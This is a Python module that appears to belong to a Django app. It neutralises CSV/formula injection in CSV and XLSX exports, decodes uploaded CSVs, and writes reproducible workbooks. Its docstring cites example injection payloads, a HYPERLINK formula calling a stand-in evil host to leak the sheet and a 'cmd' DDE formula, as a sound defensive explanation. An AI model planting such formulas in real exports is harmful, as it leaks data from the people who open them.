"""Cells a spreadsheet cannot run: OWASP's CSV-injection rule, for every CSV and XLSX export.

A spreadsheet takes a cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return for a formula (``=HYPERLINK("http://evil.example","x")`` makes a link that leaks the sheet,
``=cmd|...`` once ran programs). Such a text cell is written with a single quote in front and the
rest verbatim; the quote makes it text in Excel, LibreOffice and Google Sheets.

Only text cells: a number from a numeric field (an amount, an id, a negative longitude) is not a
formula and is written as it is. Whether a cell is a number is decided by its field or its Python
type, never by what the text looks like: a title ``-5+3`` is guarded, and so is a title ``-5``.

Lossless: a text that already begins with quotes and then one of those characters (``'=x``) gets
one more quote, and an import takes exactly one quote off such a cell (:func:`unguarded`), so a
file exported and imported back gives the same text. One exception, not of this rule's making: an
import of a CSV reads every carriage return as a line feed (django-import-export opens it with
universal newlines). So the guard of a leading carriage return comes back before a line feed and is
taken off there too; for that, a quoted line feed (``'\n``) is guarded as well. A workbook keeps
the carriage return: openpyxl writes through lxml, which writes it as a character reference.

A workbook (XLSX) is XML, which cannot hold most control characters: :func:`workbook_text` drops
them, so that one title pasted with an escape character does not make the whole export fail, and
:func:`workbook_bytes` dates the file and its parts with one given time, so the same rows give the
same bytes. An uploaded CSV is read as Excel saves it (:func:`decoded_text`): UTF-8, with or without
a byte-order mark, or GB18030 (GBK); anything else is refused with :class:`NotText`.
"""

import io
import re
import zipfile
from datetime import datetime

from openpyxl.writer.excel import ExcelWriter

FORMULA_STARTS = "=+-@\t\r"
GUARD = "'"

_FIRST_CHARACTERS = frozenset(FORMULA_STARTS + GUARD)
_NEEDS_GUARD = re.compile(r"'*[=+\-@\t\r]|'+\n")
_GUARDED = re.compile(r"'+[=+\-@\t\r\n]")
# What XML 1.0 forbids (openpyxl's ILLEGAL_CHARACTERS_RE): C0 controls but tab, line feed and return.
_NOT_IN_WORKBOOKS = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def neutralised(text: str) -> str:
    """``text`` as a spreadsheet cell that cannot be a formula: a quote in front when it needs one."""
    # The first character is checked first: an export calls this for every text cell it writes.
    if text and text[0] in _FIRST_CHARACTERS and _NEEDS_GUARD.match(text):
        return GUARD + text
    return text


def unguarded(text: str) -> str:
    """The text of an imported cell that :func:`neutralised` guarded: one quote fewer."""
    if _GUARDED.match(text):
        return text[1:]
    return text


def workbook_text(text: str) -> str:
    """``text`` as a workbook's cell can hold it: without the control characters XML forbids."""
    return _NOT_IN_WORKBOOKS.sub("", text)


# Reading an uploaded text file (a CSV): what Excel saves. "CSV UTF-8" is UTF-8 with a byte-order
# mark; plain "CSV" on a Chinese Windows is GBK, which GB18030 contains. Anything else (UTF-16,
# a workbook or a picture chosen as a CSV) is refused with a message saying what to do.
TEXT_ENCODINGS = ("utf-8-sig", "gb18030")


class NotText(ValueError):
    """An uploaded file that is not text in one of :data:`TEXT_ENCODINGS`."""


def decoded_text(data: bytes) -> str:
    """The text of an uploaded file: UTF-8 (with or without a byte-order mark), else GB18030 (GBK);
    every line break read as a line feed, as a file opened with universal newlines reads it.

    A NUL character is never text: UTF-16 (whose ASCII letters are followed by NULs) and binary
    files that happen to decode are refused with :class:`NotText` too.
    """
    for encoding in TEXT_ENCODINGS:
        try:
            text = data.decode(encoding)
        except UnicodeDecodeError:
            continue
        if "\x00" in text or (encoding == "gb18030" and not _reads_as_chinese(text)):
            break
        return text.replace("\r\n", "\n").replace("\r", "\n")
    raise NotText(data[:4])


def _reads_as_chinese(text: str) -> bool:
    """Whether ``text``, read as GB18030, is a Chinese file rather than another encoding's bytes
    that GB18030 happens to decode too (it decodes nearly any bytes): Big5 gives private-use
    characters, Shift-JIS and Windows-1252 rare ones ("Cafés" reads "Caf閟"). A GBK file from a
    Chinese Excel has no private-use character, and at least half of its non-ASCII characters are
    among GB 2312's, in which everyday simplified Chinese is written. (EUC-KR cannot be told apart.)"""
    others = [character for character in text if ord(character) > 0x7F]
    if any(0xE000 <= ord(character) <= 0xF8FF for character in others):
        return False
    return 2 * sum(_in_gb2312(character) for character in others) >= len(others)


def _in_gb2312(character: str) -> bool:
    try:
        character.encode("gb2312")
    except UnicodeEncodeError:
        return False
    return True


def workbook_cell(value):
    """A workbook (XLSX) cell of an export: a number as it is, a text without the control characters
    XML forbids and guarded against formula injection (in that order: ``"\\x01=1+1"`` would be a
    formula once the control character is gone)."""
    if isinstance(value, str):
        return neutralised(workbook_text(value))
    return value


class _StampedZip(zipfile.ZipFile):
    """A zip whose entries all carry one time, instead of the moment each was written."""

    def __init__(self, *args, stamp: datetime, **kwargs):
        super().__init__(*args, **kwargs)
        self.stamp = stamp.timetuple()[:6]

    def writestr(self, zinfo_or_arcname, data, compress_type=None, compresslevel=None):
        if isinstance(zinfo_or_arcname, str):
            zinfo_or_arcname = zipfile.ZipInfo(zinfo_or_arcname, date_time=self.stamp)
            zinfo_or_arcname.compress_type = self.compression
            zinfo_or_arcname.external_attr = 0o600 << 16
        super().writestr(zinfo_or_arcname, data, compress_type, compresslevel)

    def write(self, filename, arcname=None, compress_type=None, compresslevel=None):
        with open(filename, "rb") as file:
            self.writestr(arcname or str(filename), file.read(), compress_type, compresslevel)


def workbook_bytes(workbook, *, stamp: datetime) -> bytes:
    """``workbook`` (openpyxl) as the bytes of an XLSX file, dated ``stamp`` inside and out: the same
    rows give the same file (openpyxl alone dates the file and each of its parts to the second)."""
    workbook.properties.created = workbook.properties.modified = stamp
    content = io.BytesIO()
    with _StampedZip(content, "w", zipfile.ZIP_DEFLATED, allowZip64=True, stamp=stamp) as archive:
        ExcelWriter(workbook, archive).save()
    return content.getvalue()
